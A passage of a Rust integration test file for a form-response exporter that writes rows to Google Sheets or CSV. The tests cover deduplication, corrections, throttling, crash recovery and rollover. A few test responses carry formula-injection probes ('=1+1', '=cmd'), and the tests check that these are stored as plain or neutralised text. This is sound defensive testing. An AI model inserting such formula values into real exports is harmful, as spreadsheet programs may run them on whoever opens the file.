//! The sheets exporter end to end, on the real broker, against the stateful Sheets fake
//! (tests/src/sheets_fake.rs) and, for the local default, CSV files (docs/design.md,
//! promise 2).
//!
//! Invariants proved here: every response of an exported form has exactly one row, holding its
//! highest revision, with one column per question of every version, however the records are
//! redelivered, throttled, failed ambiguously, killed with `-9` mid-batch or rolled over.

use std::collections::{BTreeMap, HashMap};
use std::path::Path;
use std::process::{Child, Command, Stdio};
use std::time::Duration;

use clap::Parser;
use formstream_schemas::fixtures;
use formstream_schemas::{
    Answer, Form, FormVersion, Question, QuestionType, Response, Sheets as SheetsAction,
};
use formstream_sheets::{Sheets, SheetsArgs};
use formstream_tests::runtime::*;
use formstream_tests::sheets_fake::{FakeSheets, Fault};
use formstream_tests::{unique, wait_until};
use serde_json::Value;

#[derive(Parser)]
struct Flags {
    #[command(flatten)]
    args: SheetsArgs,
}

fn sheets_args(extra: &[&str]) -> SheetsArgs {
    let mut argv = vec!["sheets"];
    argv.extend_from_slice(extra);
    Flags::try_parse_from(argv).expect("sheets flags").args
}

/// Flags pointing the exporter at `fake`, quick for tests; every spreadsheet the test made so far
/// is acme's, as the operator says.
fn google_flags(fake: &FakeSheets, dir: &Path, ledger: &str) -> Vec<String> {
    let owners = fake.organisations_file(dir, "acme");
    let mut flags = vec![
        "--organisations-file".to_owned(),
        owners.display().to_string(),
    ];
    flags.extend(fake.exporter_flags(dir, ledger));
    flags
}

/// [`google_flags`] with a write quota that does not slow tests down.
fn fast_google_flags(fake: &FakeSheets, dir: &Path, ledger: &str) -> Vec<String> {
    let mut flags = google_flags(fake, dir, ledger);
    flags.extend(["--sheets-writes-per-minute".to_owned(), "6000".to_owned()]);
    flags
}

async fn start(topics: &RuntimeTopics, flags: &[String]) -> RunningRuntime {
    start_with_config(topics, flags, &[]).await
}

/// [`start`] with `config` added to the runtime's flags.
async fn start_with_config(
    topics: &RuntimeTopics,
    flags: &[String],
    config: &[&str],
) -> RunningRuntime {
    let config = topics.config(config);
    let flags: Vec<&str> = flags.iter().map(String::as_str).collect();
    let sheets = Sheets::open(sheets_args(&flags), &config, std::future::pending())
        .await
        .expect("opening the exporter")
        .expect("not shut down");
    spawn_runtime(sheets, config).await
}

fn question(key: &str, text: &str, kind: QuestionType, choices: &[(&str, &str)]) -> Question {
    Question {
        text: text.into(),
        choices: fixtures::labelled_choices(choices),
        ..fixtures::question(key, kind)
    }
}

fn version(number: i32, questions: Vec<Question>, spreadsheet_id: Option<&str>) -> FormVersion {
    FormVersion {
        title: "Household survey".into(),
        sheets: Some(SheetsAction {
            spreadsheet_id: spreadsheet_id.map(str::to_owned),
        }),
        created_at: now_ms(),
        ..fixtures::version(number, questions)
    }
}

fn v1_questions() -> Vec<Question> {
    vec![
        question("name", "Respondent name", QuestionType::Text, &[]),
        question(
            "city",
            "City",
            QuestionType::SingleChoice,
            &[("pune", "Pune"), ("chennai", "Chennai")],
        ),
        question(
            "langs",
            "Languages spoken",
            QuestionType::MultipleChoice,
            &[("hi", "Hindi"), ("ta", "Tamil"), ("mr", "Marathi")],
        ),
        question("income", "Monthly income", QuestionType::Number, &[]),
    ]
}

fn form(id: &str, versions: Vec<FormVersion>) -> Form {
    Form {
        created_at: now_ms(),
        ..fixtures::form("acme", id, versions)
    }
}

fn response(
    form_id: &str,
    version: i32,
    id: &str,
    revision: i32,
    answers: &[(&str, &str, &[&str], Option<f64>)],
) -> Response {
    let answers = answers
        .iter()
        .map(|(key, text, choices, number)| Answer {
            question_key: (*key).into(),
            text: Some((*text).into()),
            number: *number,
            choices: choices.iter().map(|c| (*c).to_owned()).collect(),
        })
        .collect();
    Response {
        form_version: version,
        revision,
        submitted_at: 1_764_000_000_000,
        received_at: 1_764_000_000_000,
        collector: formstream_schemas::Collector {
            id: "collector-7".into(),
            phone: None,
        },
        ..fixtures::response(form_id, id, answers)
    }
}

fn simple(form_id: &str, id: &str, revision: i32) -> Response {
    response(
        form_id,
        1,
        id,
        revision,
        &[("name", &format!("name {id} r{revision}"), &[], None)],
    )
}

/// Rows of every part of a form's chain, keyed by response id; panics on a duplicate id.
fn rows_by_id(fake: &FakeSheets, ids: &[String]) -> BTreeMap<String, Vec<Value>> {
    let mut rows = BTreeMap::new();
    for id in ids {
        for row in fake.rows(id, "responses").into_iter().skip(1) {
            let key = row[0].as_str().expect("a response id").to_owned();
            assert!(
                rows.insert(key.clone(), row).is_none(),
                "two rows for {key}"
            );
        }
    }
    rows
}

/// Waits until the group has committed the end of every non-empty partition (these tests leave
/// some partitions empty, which have no commit).
async fn wait_done(topics: &RuntimeTopics, deadline: Duration) {
    let ends: BTreeMap<i32, i64> = end_offsets(topics)
        .await
        .expect("partition ends")
        .into_iter()
        .filter(|(_, end)| *end > 0)
        .collect();
    eventually(deadline, "committed offsets reach the ends", || {
        let ends = &ends;
        async move {
            let committed = committed_offsets(topics).await.unwrap_or_default();
            ends.iter().all(|(p, end)| committed.get(p) == Some(end))
        }
    })
    .await;
}

/// One form exported to one spreadsheet of the fake, and the exporter running on fresh topics.
struct OneForm {
    fake: FakeSheets,
    topics: RuntimeTopics,
    producer: TestProducer,
    /// Holds the credentials file.
    _dir: tempfile::TempDir,
    form: String,
    sheet: String,
    runtime: RunningRuntime,
}

impl OneForm {
    async fn start(partitions: i32) -> Self {
        Self::start_with_linger(partitions, "100ms").await
    }

    /// [`OneForm::start`] with `--sheets-linger` set to `linger`.
    async fn start_with_linger(partitions: i32, linger: &str) -> Self {
        Self::start_full(partitions, linger, &[], &[], false).await
    }

    /// [`OneForm::start_with_linger`] with the exporter's flags `extra` and the runtime's
    /// `config` added, the spreadsheet holding the tab `responses` already (a grid of 1000 x 26,
    /// as a person makes one) when `tab`: then new rows go by `values.append` at once.
    async fn start_full(
        partitions: i32,
        linger: &str,
        extra: &[&str],
        config: &[&str],
        tab: bool,
    ) -> Self {
        let fake = FakeSheets::start().await;
        let topics = RuntimeTopics::create(partitions).await;
        let producer = TestProducer::new(&topics);
        let dir = tempfile::tempdir().expect("temp dir");
        let form_id = format!("a{}", unique());
        let sheet = fake.create_spreadsheet("A");
        if tab {
            fake.add_tab(&sheet, "responses");
        }
        producer
            .form(&form(
                &form_id,
                vec![version(1, v1_questions(), Some(&sheet))],
            ))
            .await;
        let mut flags = fast_google_flags(&fake, dir.path(), &format!("test-{}-ledger", unique()));
        if let Some(at) = flags.iter().position(|f| f == "--sheets-linger") {
            flags[at + 1] = linger.to_owned();
        }
        flags.extend(extra.iter().map(|f| (*f).to_owned()));
        let runtime = start_with_config(&topics, &flags, config).await;
        OneForm {
            fake,
            topics,
            producer,
            _dir: dir,
            form: form_id,
            sheet,
            runtime,
        }
    }
}

fn revision(row: &[Value]) -> i64 {
    row[1].as_i64().expect("a revision")
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn rows_and_columns_per_form_new_versions_add_columns_and_corrections_update_in_place() {
    init_logs();
    let fake = FakeSheets::start().await;
    let topics = RuntimeTopics::create(3).await;
    let producer = TestProducer::new(&topics);
    let dir = tempfile::tempdir().expect("temp dir");
    let (a, b) = (format!("a{}", unique()), format!("b{}", unique()));
    let (sheet_a, sheet_b) = (fake.create_spreadsheet("A"), fake.create_spreadsheet("B"));
    producer
        .form(&form(&a, vec![version(1, v1_questions(), Some(&sheet_a))]))
        .await;
    producer
        .form(&form(
            &b,
            vec![version(
                1,
                vec![question("name", "Name", QuestionType::Text, &[])],
                Some(&sheet_b),
            )],
        ))
        .await;
    // A form without a sheets action is not exported.
    let mut quiet = test_form(&format!("q{}", unique()));
    quiet.versions[0].sheets = None;
    producer.form(&quiet).await;

    let runtime = start(
        &topics,
        &fast_google_flags(&fake, dir.path(), &format!("test-{}-ledger", unique())),
    )
    .await;
    let r1 = response(
        &a,
        1,
        "r1",
        0,
        &[
            ("name", "Asha", &[], None),
            ("city", "pune", &["pune"], None),
            ("langs", "hi,mr", &["hi", "mr"], None),
            ("income", "12000", &[], Some(12000.0)),
        ],
    );
    let r2 = response(&a, 1, "r2", 0, &[("name", "Ravi", &[], None)]);
    producer
        .responses(&[
            (0, r1.clone()),
            (0, r2.clone()),
            (0, r1.clone()),
            (1, simple(&b, "b1", 0)),
            (1, simple(&b, "b2", 0)),
            (2, simple(&quiet.id, "q1", 0)),
        ])
        .await;
    wait_done(&topics, Duration::from_secs(60)).await;

    // Version 2 drops `income`, adds `phone_model`; a correction of r1 and a new response.
    let mut v2 = v1_questions();
    v2.retain(|q| q.key != "income");
    v2.push(question(
        "phone_model",
        "Phone model",
        QuestionType::Text,
        &[],
    ));
    producer
        .form(&form(
            &a,
            vec![
                version(1, v1_questions(), Some(&sheet_a)),
                version(2, v2, Some(&sheet_a)),
            ],
        ))
        .await;
    let r1_fixed = response(
        &a,
        2,
        "r1",
        1,
        &[
            ("name", "Asha K", &[], None),
            ("city", "chennai", &["chennai"], None),
            ("phone_model", "=1+1", &[], None),
        ],
    );
    let r3 = response(&a, 2, "r3", 0, &[("phone_model", "Nokia", &[], None)]);
    // The correction is redelivered, and an older revision arrives after it: neither changes it.
    producer
        .responses(&[
            (0, r1_fixed.clone()),
            (0, r3),
            (0, r1_fixed),
            (0, r1.clone()),
        ])
        .await;
    wait_done(&topics, Duration::from_secs(60)).await;

    let rows = fake.rows(&sheet_a, "responses");
    assert_eq!(
        rows[0],
        [
            "Response ID",
            "Revision",
            "Submitted at",
            "Collector",
            "Respondent name",
            "City",
            "Languages spoken",
            "Monthly income",
            "Phone model"
        ]
        .map(Value::from),
        "header: fixed columns, then every question in order of first appearance"
    );
    assert_eq!(rows.len(), 4, "one header and three rows: {rows:?}");
    let by_id = rows_by_id(&fake, std::slice::from_ref(&sheet_a));
    let r1_row = &by_id["r1"];
    assert_eq!(revision(r1_row), 1);
    assert_eq!(r1_row[2], "2025-11-24T16:00:00Z");
    assert_eq!(r1_row[3], "collector-7");
    assert_eq!(r1_row[4], "Asha K");
    assert_eq!(r1_row[5], "Chennai", "choice text, not key");
    assert_eq!(
        r1_row[6], "",
        "the correction has no languages: the cell is cleared"
    );
    assert_eq!(
        r1_row[7], "",
        "the correction cleared the removed question's cell"
    );
    assert_eq!(r1_row[8], "=1+1", "written RAW: text, never a formula");
    assert_eq!(by_id["r2"][4], "Ravi");
    assert_eq!(by_id["r3"][8], "Nokia");
    let b_rows = rows_by_id(&fake, std::slice::from_ref(&sheet_b));
    assert_eq!(b_rows.keys().collect::<Vec<_>>(), ["b1", "b2"]);
    assert_eq!(
        fake.spreadsheets().len(),
        2,
        "nothing created for the form without a sheets action"
    );
    runtime.stop().await.expect("clean stop");
    topics.delete().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn the_first_revision_shows_choice_texts_joined() {
    // Kept apart from the test above, whose r1 is later corrected.
    init_logs();
    let OneForm {
        fake,
        topics,
        producer,
        form: a,
        sheet,
        runtime,
        ..
    } = OneForm::start(1).await;
    producer
        .responses(&[(
            0,
            response(
                &a,
                1,
                "r1",
                0,
                &[
                    ("city", "pune", &["pune"], None),
                    ("langs", "hi,mr", &["hi", "mr"], None),
                    ("income", "12000", &[], Some(12000.0)),
                ],
            ),
        )])
        .await;
    wait_done(&topics, Duration::from_secs(60)).await;
    let row = &rows_by_id(&fake, &[sheet])["r1"];
    assert_eq!(
        (row[5].clone(), row[6].clone(), row[7].clone()),
        (
            Value::from("Pune"),
            Value::from("Hindi; Marathi"),
            Value::from(12000.0)
        )
    );
    runtime.stop().await.expect("clean stop");
    topics.delete().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn throttling_and_ambiguous_failures_are_absorbed_without_a_duplicate() {
    init_logs();
    let fake = FakeSheets::start().await;
    let topics = RuntimeTopics::create(2).await;
    let producer = TestProducer::new(&topics);
    let dir = tempfile::tempdir().expect("temp dir");
    let a = format!("a{}", unique());
    let sheet = fake.create_spreadsheet("A");
    producer
        .form(&form(&a, vec![version(1, v1_questions(), Some(&sheet))]))
        .await;
    // Reads and the tab creation go through; then writes are throttled, fail, and one append is
    // applied but answered 503 (the rows are there; a retry must not add them again).
    fake.fail_next_writes(1, Fault::FailBefore(500));
    fake.fail_next_writes(
        3,
        Fault::TooManyRequests {
            retry_after: Some(1),
        },
    );
    fake.fail_next_writes(1, Fault::FailAfter(503));
    fake.fail_next_writes(1, Fault::SlowAfter(Duration::from_secs(3)));
    let runtime = start(
        &topics,
        &fast_google_flags(&fake, dir.path(), &format!("test-{}-ledger", unique())),
    )
    .await;
    let items: Vec<(i32, Response)> = (0..200)
        .map(|i| (i % 2, simple(&a, &format!("r{i:03}"), 0)))
        .collect();
    producer.responses(&items).await;
    wait_done(&topics, Duration::from_secs(120)).await;
    let rows = rows_by_id(&fake, std::slice::from_ref(&sheet));
    assert_eq!(rows.len(), 200);
    assert!(fake.throttled() >= 3);
    assert_eq!(
        fake.rows(&sheet, "responses").len(),
        201,
        "no duplicate rows"
    );
    runtime.stop().await.expect("clean stop");
    topics.delete().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn rollover_at_the_cell_limit_continues_in_new_spreadsheets_and_reads_them_all_back() {
    init_logs();
    let fake = FakeSheets::start().await;
    // 5 columns per row: about 40 rows per spreadsheet.
    fake.set_cell_limit(200);
    let topics = RuntimeTopics::create(1).await;
    let producer = TestProducer::new(&topics);
    let dir = tempfile::tempdir().expect("temp dir");
    let ledger = format!("test-{}-ledger", unique());
    let a = format!("a{}", unique());
    producer
        .form(&form(
            &a,
            vec![version(
                1,
                vec![question("name", "Name", QuestionType::Text, &[])],
                None,
            )],
        ))
        .await;
    let mut flags = fast_google_flags(&fake, dir.path(), &ledger);
    flags.extend(["--sheets-cell-limit".to_owned(), "200".to_owned()]);
    let runtime = start(&topics, &flags).await;
    let items: Vec<(i32, Response)> = (0..100)
        .map(|i| (0, simple(&a, &format!("r{i:03}"), 0)))
        .collect();
    producer.responses(&items).await;
    wait_done(&topics, Duration::from_secs(120)).await;
    runtime.stop().await.expect("clean stop");

    let sheets = fake.spreadsheets();
    assert!(
        sheets.len() >= 3,
        "rolled over: {:?}",
        sheets.iter().map(|s| &s.title).collect::<Vec<_>>()
    );
    for sheet in &sheets {
        assert!(
            sheet.cells() <= 200,
            "{} has {} cells",
            sheet.title,
            sheet.cells()
        );
        assert_eq!(
            fake.rows(&sheet.id, "responses")[0][0],
            "Response ID",
            "header repeated in {}",
            sheet.title
        );
    }
    let titles: Vec<String> = sheets.iter().map(|s| s.title.clone()).collect();
    assert!(titles.contains(&format!("Household survey (formstream {a})")));
    assert!(titles.contains(&format!("Household survey (formstream {a}, part 2)")));
    let ids: Vec<String> = sheets.iter().map(|s| s.id.clone()).collect();
    assert_eq!(rows_by_id(&fake, &ids).len(), 100);

    // A restart reads every part back: corrections update rows in the first part, redelivered
    // rows are not added again, new rows go on in the last part.
    let runtime = start(&topics, &flags).await;
    let mut items: Vec<(i32, Response)> = (0..5)
        .map(|i| (0, simple(&a, &format!("r{i:03}"), 1)))
        .collect();
    items.extend((95..105).map(|i| (0, simple(&a, &format!("r{i:03}"), 0))));
    producer.responses(&items).await;
    wait_done(&topics, Duration::from_secs(120)).await;
    runtime.stop().await.expect("clean stop");
    let ids: Vec<String> = fake.spreadsheets().iter().map(|s| s.id.clone()).collect();
    let rows = rows_by_id(&fake, &ids);
    assert_eq!(rows.len(), 105);
    for i in 0..5 {
        assert_eq!(revision(&rows[&format!("r{i:03}")]), 1);
    }
    topics.delete().await;
}

/// `formstream process sheets`; killed (SIGKILL) when dropped.
struct SheetsProcess {
    child: Child,
    log: std::path::PathBuf,
}

impl SheetsProcess {
    fn start(topics: &RuntimeTopics, flags: &[String], log: std::path::PathBuf) -> Self {
        let file = std::fs::File::create(&log).expect("a log file");
        let child = Command::new(formstream_binary())
            .args(["process", "sheets"])
            .args(topics.runtime_args())
            .args(flags)
            .env("FORMSTREAM_LOG", "info")
            .stdin(Stdio::null())
            .stdout(file.try_clone().expect("log file"))
            .stderr(file)
            .spawn()
            .expect("starting formstream process sheets");
        SheetsProcess { child, log }
    }

    fn log_tail(&self) -> String {
        let text = std::fs::read_to_string(&self.log).unwrap_or_default();
        let lines: Vec<&str> = text.lines().collect();
        lines[lines.len().saturating_sub(40)..].join("\n")
    }

    fn kill(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

impl Drop for SheetsProcess {
    fn drop(&mut self) {
        self.kill();
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn kill_9_in_the_middle_of_a_batch_leaves_no_duplicate_and_no_missing_row() {
    init_logs();
    let fake = FakeSheets::start().await;
    let topics = RuntimeTopics::create(2).await;
    let producer = TestProducer::new(&topics);
    let dir = tempfile::tempdir().expect("temp dir");
    let forms: Vec<String> = (0..2).map(|i| format!("k{i}{}", unique())).collect();
    let sheets: Vec<String> = forms.iter().map(|f| fake.create_spreadsheet(f)).collect();
    for (f, s) in forms.iter().zip(&sheets) {
        producer
            .form(&form(
                f,
                vec![version(
                    1,
                    vec![question("name", "Name", QuestionType::Text, &[])],
                    Some(s),
                )],
            ))
            .await;
    }
    const RECORDS: usize = 3_000;
    let items: Vec<(i32, Response)> = (0..RECORDS)
        .map(|i| {
            (
                (i % 2) as i32,
                simple(&forms[i % 2], &format!("r{i:05}"), 0),
            )
        })
        .collect();
    producer.responses(&items).await;
    // Slow writes and small batches: the kill lands between appends and their commits.
    let mut flags = google_flags(&fake, dir.path(), &format!("test-{}-ledger", unique()));
    flags.extend(
        [
            "--sheets-writes-per-minute",
            "600",
            "--sheets-max-request-bytes",
            "8000",
        ]
        .map(str::to_owned),
    );
    fake.set_latency(Duration::from_millis(150));
    let mut process = SheetsProcess::start(&topics, &flags, dir.path().join("first.log"));
    let writing = wait_until(Duration::from_secs(120), || async {
        sheets
            .iter()
            .map(|s| fake.rows(s, "responses").len())
            .sum::<usize>()
            > RECORDS / 5
    })
    .await;
    assert!(writing, "not writing; log:\n{}", process.log_tail());
    // Applied on the fake, answered late: the process dies with appends done but not committed.
    fake.fail_next_writes(1, Fault::SlowAfter(Duration::from_secs(2)));
    // Kill while that write is applied but unanswered: once a write has taken the fault.
    let taken = wait_until(Duration::from_secs(60), || async {
        fake.pending_faults() == 0
    })
    .await;
    assert!(
        taken,
        "no write took the slow fault; log:\n{}",
        process.log_tail()
    );
    process.kill();
    let before: usize = rows_by_id(&fake, &sheets).len();
    assert!(before < RECORDS, "the run was over before the kill");
    let committed: i64 = committed_offsets(&topics)
        .await
        .unwrap_or_default()
        .values()
        .sum();
    eprintln!("kill -9: {before} rows written, {committed} offsets committed at the kill");

    fake.set_latency(Duration::ZERO);
    let mut process = SheetsProcess::start(&topics, &flags, dir.path().join("second.log"));
    let finished = wait_until(Duration::from_secs(180), || async {
        committed_offsets(&topics)
            .await
            .unwrap_or_default()
            .values()
            .sum::<i64>()
            >= RECORDS as i64
    })
    .await;
    assert!(
        finished,
        "not finished after the restart; log:\n{}",
        process.log_tail()
    );
    process.kill();
    let rows = rows_by_id(&fake, &sheets);
    assert_eq!(rows.len(), RECORDS, "no missing row");
    let total: usize = sheets
        .iter()
        .map(|s| fake.rows(s, "responses").len() - 1)
        .sum();
    assert_eq!(total, RECORDS, "no duplicate row");
    topics.delete().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn without_credentials_each_form_is_a_csv_file_with_one_row_per_response() {
    init_logs();
    let topics = RuntimeTopics::create(2).await;
    let producer = TestProducer::new(&topics);
    let dir = tempfile::tempdir().expect("temp dir");
    let a = format!("a{}", unique());
    producer
        .form(&form(&a, vec![version(1, v1_questions(), None)]))
        .await;
    let flags = [
        "--sheets-dir".to_owned(),
        dir.path().display().to_string(),
        "--sheets-linger".to_owned(),
        "50ms".to_owned(),
    ];
    let runtime = start(&topics, &flags).await;
    let r1 = response(
        &a,
        1,
        "r1",
        0,
        &[
            ("name", "Asha, \"A\"", &[], None),
            ("langs", "hi,ta", &["hi", "ta"], None),
        ],
    );
    producer
        .responses(&[(0, r1.clone()), (0, simple(&a, "r2", 0)), (0, r1.clone())])
        .await;
    wait_done(&topics, Duration::from_secs(60)).await;
    runtime.stop().await.expect("clean stop");
    // A restart reads the file back: the correction replaces r1's row, r2 is not added again.
    let runtime = start(&topics, &flags).await;
    let fixed = response(&a, 1, "r1", 1, &[("name", "=cmd", &[], None)]);
    producer
        .responses(&[(0, fixed), (0, simple(&a, "r2", 0)), (0, r1)])
        .await;
    wait_done(&topics, Duration::from_secs(60)).await;
    runtime.stop().await.expect("clean stop");

    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_path(dir.path().join("acme").join(format!("{a}.csv")))
        .expect("the CSV file");
    let rows: Vec<Vec<String>> = reader
        .records()
        .map(|r| r.expect("a CSV row").iter().map(str::to_owned).collect())
        .collect();
    assert_eq!(
        rows[0][..5],
        [
            "Response ID",
            "Revision",
            "Submitted at",
            "Collector",
            "Respondent name"
        ]
    );
    assert_eq!(rows.len(), 3, "{rows:?}");
    let by_id: HashMap<&str, &Vec<String>> = rows[1..].iter().map(|r| (r[0].as_str(), r)).collect();
    assert_eq!(by_id["r1"][1], "1");
    assert_eq!(
        by_id["r1"][4], "'=cmd",
        "a formula-like text is neutralised for spreadsheet programs"
    );
    assert_eq!(by_id["r2"][4], "name r2 r0");
    assert!(
        !dir.path()
            .join("acme")
            .join(format!("{a}.csv.tmp"))
            .exists()
    );
    topics.delete().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_redriven_record_whose_row_is_written_writes_nothing() {
    init_logs();
    let OneForm {
        fake,
        topics,
        producer,
        form: a,
        sheet,
        runtime,
        ..
    } = OneForm::start(2).await;
    let produced = producer
        .responses(&[(0, simple(&a, "r1", 0)), (1, simple(&a, "r2", 0))])
        .await;
    wait_done(&topics, Duration::from_secs(60)).await;
    assert_eq!(fake.rows(&sheet, "responses").len(), 3);
    let writes = fake.write_requests();

    // Dead-lettered after all (its append timed out, say), then re-driven: its row is there.
    dead_letter_and_redrive(
        &topics,
        "sheets",
        &topics.responses,
        produced[0].partition,
        produced[0].offset,
    )
    .await;
    runtime.stop().await.expect("clean stop");
    let rows = rows_by_id(&fake, std::slice::from_ref(&sheet));
    assert_eq!(rows.len(), 2);
    assert_eq!(fake.rows(&sheet, "responses").len(), 3, "no second row");
    assert_eq!(fake.write_requests(), writes, "nothing written again");
    topics.delete().await;
}

/// Publishes `items` and waits until they are done; the write requests they cost.
async fn writes_for(
    fake: &FakeSheets,
    topics: &RuntimeTopics,
    producer: &TestProducer,
    items: &[(i32, Response)],
) -> usize {
    let writes = fake.write_requests();
    producer.responses(items).await;
    wait_done(topics, Duration::from_secs(60)).await;
    fake.write_requests() - writes
}

/// Rows `r00`..`r{count-1}` are in `sheet` once each (under the header), those in `corrected`
/// at revision 1 and the others at revision 0.
fn assert_rows_at_revisions(
    fake: &FakeSheets,
    sheet: &str,
    count: usize,
    corrected: std::ops::Range<usize>,
) {
    let rows = rows_by_id(fake, &[sheet.to_owned()]);
    assert_eq!(rows.len(), count);
    for i in 0..count {
        let expected = i64::from(corrected.contains(&i));
        assert_eq!(revision(&rows[&format!("r{i:02}")]), expected, "r{i:02}");
    }
    assert_eq!(
        fake.rows(sheet, "responses").len(),
        count + 1,
        "no duplicate rows"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_flush_of_corrections_and_new_rows_is_one_write() {
    init_logs();
    // A long linger: the records of each produce below leave in one flush.
    let OneForm {
        fake,
        topics,
        producer,
        form: a,
        sheet,
        runtime,
        ..
    } = OneForm::start_with_linger(1, "2s").await;
    let first: Vec<(i32, Response)> = (0..10)
        .map(|i| (0, simple(&a, &format!("r{i:02}"), 0)))
        .collect();
    writes_for(&fake, &topics, &producer, &first).await;

    // Three corrections and twenty new responses, waiting together: one write carries them all.
    let mut second: Vec<(i32, Response)> = (0..3)
        .map(|i| (0, simple(&a, &format!("r{i:02}"), 1)))
        .collect();
    second.extend((10..30).map(|i| (0, simple(&a, &format!("r{i:02}"), 0))));
    let writes = writes_for(&fake, &topics, &producer, &second).await;
    assert_eq!(writes, 1, "one write request for the flush");
    assert_rows_at_revisions(&fake, &sheet, 30, 0..3);
    runtime.stop().await.expect("clean stop");
    topics.delete().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_correction_that_comes_while_its_first_revision_waits_goes_in_the_same_write() {
    init_logs();
    // A long linger: the records produced together below wait together.
    let OneForm {
        fake,
        topics,
        producer,
        form: a,
        sheet,
        runtime,
        ..
    } = OneForm::start_with_linger(1, "2s").await;
    // A first row and its write (a restarted exporter's first write does not linger).
    writes_for(&fake, &topics, &producer, &[(0, simple(&a, "r00", 0))]).await;

    // Ten new responses and, behind them in the partition, corrections of three of them: the
    // corrections reach the exporter while their first revisions still wait for the write.
    let mut items: Vec<(i32, Response)> = (1..11)
        .map(|i| (0, simple(&a, &format!("r{i:02}"), 0)))
        .collect();
    items.extend((1..4).map(|i| (0, simple(&a, &format!("r{i:02}"), 1))));
    let writes = writes_for(&fake, &topics, &producer, &items).await;
    assert_eq!(
        writes, 1,
        "one write for the rows and their corrections, not a second one for the corrections"
    );
    assert_rows_at_revisions(&fake, &sheet, 11, 1..4);
    runtime.stop().await.expect("clean stop");
    topics.delete().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_forms_spreadsheet_is_created_as_soon_as_it_has_rows_which_wait_their_turn() {
    init_logs();
    let fake = FakeSheets::start().await;
    let topics = RuntimeTopics::create(1).await;
    let producer = TestProducer::new(&topics);
    let dir = tempfile::tempdir().expect("temp dir");
    let (a, b) = (format!("a{}", unique()), format!("b{}", unique()));
    for id in [&a, &b] {
        let questions = vec![question("name", "Name", QuestionType::Text, &[])];
        producer
            .form(&form(id, vec![version(1, questions, None)]))
            .await;
    }
    // Rows linger a minute: only the first write after start, and creates, go before.
    let mut flags = fast_google_flags(&fake, dir.path(), &format!("test-{}-ledger", unique()));
    if let Some(at) = flags.iter().position(|f| f == "--sheets-linger") {
        flags[at + 1] = "60s".to_owned();
    }
    let runtime = start(&topics, &flags).await;
    writes_for(&fake, &topics, &producer, &[(0, simple(&a, "a1", 0))]).await;
    let title = |id: &str| format!("Household survey (formstream {id})");
    let of = |id: &str| {
        fake.spreadsheets()
            .into_iter()
            .find(|sheet| sheet.title == title(id))
    };
    assert!(of(&a).is_some(), "the first write created a's spreadsheet");

    let items: Vec<(i32, Response)> = (1..4)
        .map(|i| (0, simple(&b, &format!("b{i}"), 0)))
        .collect();
    producer.responses(&items).await;
    eventually(
        Duration::from_secs(30),
        "b's spreadsheet created while its rows linger",
        || {
            let created = of(&b).is_some();
            async move { created }
        },
    )
    .await;
    let sheet = of(&b).expect("b's spreadsheet");
    assert!(
        fake.rows(&sheet.id, "responses").is_empty(),
        "no row of b written yet"
    );
    assert_eq!(fake.spreadsheets().len(), 2);
    runtime.stop().await.expect("clean stop");
    topics.delete().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_started_exporters_first_write_neither_lingers_nor_reads_twice() {
    init_logs();
    // A linger far longer than the wait below: only a first flush that does not linger meets it.
    let OneForm {
        fake,
        topics,
        producer,
        form: a,
        sheet,
        runtime,
        ..
    } = OneForm::start_with_linger(1, "60s").await;
    // The spreadsheet has the tab already (as after an earlier run).
    fake.add_tab(&sheet, "responses");
    let reads = fake.read_requests();
    producer.responses(&[(0, simple(&a, "r1", 0))]).await;
    wait_done(&topics, Duration::from_secs(30)).await;
    assert_eq!(fake.rows(&sheet, "responses").len(), 2);
    // The read-back before the first write: the tabs and the id, revision and header cells in
    // one read of the quota.
    assert_eq!(
        fake.read_requests() - reads,
        1,
        "reads before the first write"
    );
    runtime.stop().await.expect("clean stop");
    topics.delete().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_quota_used_up_for_seconds_is_waited_out_without_failing_a_row() {
    init_logs();
    let OneForm {
        fake,
        topics,
        producer,
        form: a,
        sheet,
        runtime,
        ..
    } = OneForm::start(1).await;
    fake.add_tab(&sheet, "responses");
    // Every write is answered 429 (Retry-After: 1) for a while: more 429s than a few retries.
    fake.set_exhausted(true);
    let items: Vec<(i32, Response)> = (0..20)
        .map(|i| (0, simple(&a, &format!("r{i:02}"), 0)))
        .collect();
    producer.responses(&items).await;
    eventually(Duration::from_secs(60), "eight writes throttled", || {
        let throttled = fake.throttled();
        async move { throttled >= 8 }
    })
    .await;
    fake.set_exhausted(false);
    wait_done(&topics, Duration::from_secs(60)).await;
    assert_eq!(rows_by_id(&fake, std::slice::from_ref(&sheet)).len(), 20);
    let retried = runtime
        .metric(
            "formstream_processor_records_total",
            &[("outcome", "retried")],
        )
        .await;
    assert_eq!(retried, 0.0, "no row failed while the quota was used up");
    runtime.stop().await.expect("clean stop");
    topics.delete().await;
}

/// Rows of 40,000 earlier responses (ids `old-NNNNNN`, revision 0) under the header of
/// [`v1_questions`], as an earlier run of the exporter left them.
fn earlier_rows(count: usize) -> Vec<Vec<Value>> {
    let header = [
        "Response ID",
        "Revision",
        "Submitted at",
        "Collector",
        "Respondent name",
    ];
    let mut rows = vec![header.iter().map(|h| Value::from(*h)).collect()];
    rows.extend((0..count).map(|i| {
        vec![
            Value::from(format!("old-{i:06}")),
            Value::from(0),
            Value::from("2025-11-24T16:00:00Z"),
            Value::from("collector-7"),
            Value::from(format!("name {i}")),
        ]
    }));
    rows
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_started_exporter_reads_a_big_sheet_back_once_and_appends_only_new_rows() {
    init_logs();
    const EARLIER: usize = 40_000;
    let fake = FakeSheets::start().await;
    let topics = RuntimeTopics::create(1).await;
    let producer = TestProducer::new(&topics);
